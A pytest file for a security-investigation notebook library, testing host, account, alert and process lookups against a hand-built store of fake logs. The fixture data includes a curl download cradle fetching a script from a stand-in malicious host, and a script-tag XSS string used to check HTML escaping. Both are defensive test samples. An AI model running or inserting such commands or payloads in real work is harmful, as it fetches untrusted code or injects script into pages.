"""nblib steps on a small hand-made store whose every row is known (no kernel needed).

The store holds look-alikes on purpose: bobby.jones next to bob, WKSTN-0420 next to
WKSTN-042, so the exact matching after the loose queries is what is tested.
"""

from __future__ import annotations

import json

import pandas as pd
import pytest

from nbcatalog.data.store import Store
from nbcatalog.nblib import (
    Investigation,
    accounts,
    alerts,
    bookmarks,
    hosts,
    processes,
    summarize,
)

T0 = pd.Timestamp("2024-05-03T10:00:00Z")
START, END = "2024-05-01T00:00:00Z", "2024-05-08T00:00:00Z"
SCRIPT = '<script>alert("nbcatalog")</script>'


def _alert(alert_id, name, entities, minutes):
    return {
        "TimeGenerated": T0 + pd.Timedelta(minutes=minutes),
        "StartTime": T0 + pd.Timedelta(minutes=minutes),
        "DisplayName": name,
        "AlertName": name,
        "AlertSeverity": "High",
        "SystemAlertId": alert_id,
        "Entities": json.dumps(entities),
        "ExtendedProperties": "{}",
        "ProviderName": "test",
    }


def _host(name):
    return {"$id": "1", "Type": "host", "HostName": name}


def _acct(name, domain="CONTOSO"):
    return {"$id": "2", "Type": "account", "Name": name, "NTDomain": domain}


@pytest.fixture(scope="module")
def inv(tmp_path_factory):
    db = tmp_path_factory.mktemp("mini") / "mini.duckdb"
    with Store.open(db) as store:
        store.append(
            "SecurityAlert",
            pd.DataFrame(
                [
                    _alert(
                        "a1",
                        "RDP brute force",
                        [
                            _host("WKSTN-042"),
                            _acct("bob"),
                            {"Type": "ip", "Address": "203.0.113.77"},
                        ],
                        0,
                    ),
                    _alert("a2", f"Odd {SCRIPT}", [_host("WKSTN-0420"), _acct("bobby.jones")], 5),
                    _alert("a3", "Admin added", [_host("wkstn-042"), _acct("svc_backup")], 10),
                    _alert("a4", "Broken entities", "{not json", 15),
                ]
            ),
        )
        store.append(
            "HuntingBookmark",
            pd.DataFrame(
                {
                    "TimeGenerated": [T0, T0],
                    "BookmarkId": ["b1", "b2"],
                    "BookmarkName": ["RDP logon", "Other"],
                    "QueryResultRow": [
                        json.dumps(
                            {
                                "Computer": "WKSTN-042",
                                "Account": "CONTOSO\\bob",
                                "IpAddress": "203.0.113.77",
                            }
                        ),
                        json.dumps({"Computer": "WKSTN-0420", "Account": "bobby.jones"}),
                    ],
                    "SoftDeleted": [False, False],
                }
            ),
        )
        store.append(
            "Heartbeat",
            pd.DataFrame(
                {
                    "TimeGenerated": [T0, T0 + pd.Timedelta(hours=1), T0],
                    "Computer": ["WKSTN-042", "WKSTN-042", "WKSTN-0420"],
                    "ComputerIP": ["10.10.1.52", "10.10.1.52", "10.10.1.99"],
                    "ComputerPrivateIPs": ['["10.10.1.52"]', '["10.10.1.52"]', "[]"],
                    "OSType": ["Windows", "Windows", "Windows"],
                    "OSName": ["Windows 11 Enterprise"] * 3,
                    "OSMajorVersion": ["10"] * 3,
                    "OSMinorVersion": ["0"] * 3,
                }
            ),
        )
        store.append(
            "SecurityEvent",
            pd.DataFrame(
                {
                    "TimeGenerated": [T0 + pd.Timedelta(minutes=m) for m in range(5)],
                    "Computer": ["WKSTN-042"] * 5,
                    "EventID": [4624, 4625, 4624, 4688, 4688],
                    "Account": ["CONTOSO\\bob", "CONTOSO\\bob", "CONTOSO\\bobby.jones"]
                    + ["CONTOSO\\bob"] * 2,
                    "TargetUserName": ["bob", "bob", "bobby.jones", None, None],
                    "TargetDomainName": ["CONTOSO"] * 3 + [None, None],
                    "IpAddress": ["203.0.113.77", "203.0.113.77", "10.10.1.7", None, None],
                    "LogonType": [10, 10, 2, None, None],
                    "LogonTypeName": ["10 - RemoteInteractive"] * 2
                    + ["2 - Interactive"]
                    + [None] * 2,
                    "NewProcessName": [None] * 3 + ["C:\\cmd.exe", "C:\\svchost.exe"],
                    "CommandLine": [None] * 3 + [f"cmd.exe /c echo {SCRIPT}", "svchost -k x"],
                }
            ),
        )
        store.append(
            "SigninLogs",
            pd.DataFrame(
                {
                    "TimeGenerated": [T0, T0 + pd.Timedelta(minutes=1)],
                    "UserPrincipalName": ["bob@contoso.com", "bobby.jones@contoso.com"],
                    "IPAddress": ["203.0.113.77", "10.10.1.7"],
                    "ResultType": ["0", "0"],
                    "AppDisplayName": ["Office 365", "Office 365"],
                    "Location": ["NL", "US"],
                }
            ),
        )
        store.append(
            "Syslog",
            pd.DataFrame(
                {
                    "TimeGenerated": [T0 + pd.Timedelta(minutes=m) for m in range(5)],
                    "Computer": ["LNX-JUMP01"] * 5,
                    "Facility": ["auth", "auth", "user", "authpriv", "user"],
                    "ProcessName": ["sshd", "sshd", "bash", "sudo", "bash"],
                    "SyslogMessage": [
                        "Accepted password for bob from 10.10.1.52 port 50022 ssh2",
                        "Accepted password for bobby.jones from 10.10.1.7 port 50023 ssh2",
                        "bob: curl -fsSL http://malicious.example/p.sh -o /tmp/p.sh",
                        "  bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/apt update",
                        "bob: ls -la",
                    ],
                }
            ),
        )
    return Investigation.open(f"duckdb:{db}", START, END)


def test_find_host_exact_prefix_and_missing(inv):
    assert hosts.find_host(inv, "WKSTN-042").name == "WKSTN-042"
    several = hosts.find_host(inv, "wkstn-04")
    assert several.name is None and several.candidates == ["WKSTN-042", "WKSTN-0420"]
    assert hosts.find_host(inv, "LNX-JUMP").os_family == "Linux"
    assert "closest names: WKSTN-042" in " ".join(hosts.find_host(inv, "WKSTN-43").messages())


def test_host_details_from_heartbeat(inv):
    details = hosts.host_details(inv, hosts.find_host(inv, "WKSTN-042"))
    assert details.entity["IpAddresses"] == ["10.10.1.52"]
    assert details.entity["OSName"] == "Windows 11 Enterprise"
    assert details.entity["OSVersion"] == "10.0"
    assert details.entity["LastHeartbeat"].startswith("2024-05-03T11:00")
    off = hosts.host_details(inv, hosts.find_host(inv, "WKSTN-042"), heartbeat=False, flows=False)
    assert off.entity["IpAddresses"] == []
    assert any("heartbeat" in m for m in off.messages())


def test_related_alerts_keep_only_exact_names(inv):
    by_host = alerts.related_alerts(inv, host="WKSTN-042")
    assert sorted(by_host.data["SystemAlertId"]) == ["a1", "a3"]
    assert list(by_host.data["AlertDisplayName"]) == ["RDP brute force", "Admin added"]
    assert list(alerts.related_alerts(inv, account="bob").data["SystemAlertId"]) == ["a1"]
    assert list(alerts.related_alerts(inv, account="bobby.jones").data["SystemAlertId"]) == ["a2"]
    assert alerts.related_alerts(inv, account="alice").empty
    html = alerts.related_alerts(inv, host="WKSTN-0420")._repr_html_()
    assert "&lt;script&gt;" in html and SCRIPT not in html


def test_related_alerts_and_bookmarks_for_an_address(inv):
    assert list(alerts.related_alerts(inv, ip="203.0.113.77").data["SystemAlertId"]) == ["a1"]
    assert alerts.related_alerts(inv, ip="203.0.113.7").empty  # a prefix is not the address
    assert list(bookmarks.related_bookmarks(inv, ip="203.0.113.77").data["BookmarkId"]) == ["b1"]


def test_related_bookmarks(inv):
    assert list(bookmarks.related_bookmarks(inv, host="WKSTN-042").data["BookmarkId"]) == ["b1"]
    assert list(bookmarks.related_bookmarks(inv, account="bob").data["BookmarkId"]) == ["b1"]


def test_notable_processes_and_summary(inv):
    notable = processes.notable_processes(inv, "WKSTN-042")
    assert list(notable.data["CommandLine"]) == [f"cmd.exe /c echo {SCRIPT}"]
    table = summarize({"Suspicious processes": notable, "Alerts": alerts.related_alerts(inv)})
    assert table["Count"].tolist() == [1, 0]
    assert "no host, account or IP address selected" in table["Note"].iloc[1]


def test_accounts_across_sources(inv):
    found = accounts.find_accounts(inv, "bob")
    assert list(found.data["AccountId"]) == [
        "entra:bob@contoso.com",
        "linux:bob",
        "windows:contoso\\bob",
    ]
    activity = accounts.account_activity(found).data.set_index("AccountId")
    assert activity.loc["windows:contoso\\bob", "Successes"] == 1
    assert activity.loc["windows:contoso\\bob", "Failures"] == 1
    assert activity.loc["entra:bob@contoso.com", "IpAddresses"] == "203.0.113.77"
    assert activity.loc["linux:bob", "IpAddresses"] == "10.10.1.52"
    assert activity.loc["linux:bob", "Hosts"] == "LNX-JUMP01"
    assert found.name == "bob"


def test_account_selection(inv):
    linux = accounts.find_accounts(inv, "bob", account_id="LINUX:bob")
    assert linux.selected == ["linux:bob"] and linux.name == "bob"
    assert list(accounts.account_activity(linux).data["Source"]) == ["Linux logons"]
    upn = accounts.find_accounts(inv, "bob@contoso.com")
    assert upn.selected == ["entra:bob@contoso.com"]
    assert set(upn.data["AccountId"]) == {
        "entra:bob@contoso.com",
        "linux:bob",
        "windows:contoso\\bob",
    }
    by_id_alone = accounts.find_accounts(inv, "", account_id="windows:CONTOSO\\bob")
    assert by_id_alone.selected == ["windows:contoso\\bob"]
    only_windows = accounts.find_accounts(inv, "bob", sources=("windows",))
    assert list(only_windows.data["AccountId"]) == ["windows:contoso\\bob"]


def test_unknown_account_and_empty_name(inv):
    missing = accounts.find_accounts(inv, "bobb")
    assert missing.empty and "closest names" in " ".join(missing.messages())
    assert "pass account=" in " ".join(accounts.find_accounts(inv, "").messages())


def test_notable_commands_on_a_linux_host(inv):
    found = processes.notable_processes(inv, "LNX-JUMP01", "Linux")
    assert found.data[["Account", "NewProcessName"]].values.tolist() == [["bob", "bash"]]
    reasons = found.data["Reasons"].iloc[0]
    assert "download cradle" in reasons and "temporary folder" in reasons
    assert "1 of 3 commands" in " ".join(found.messages())
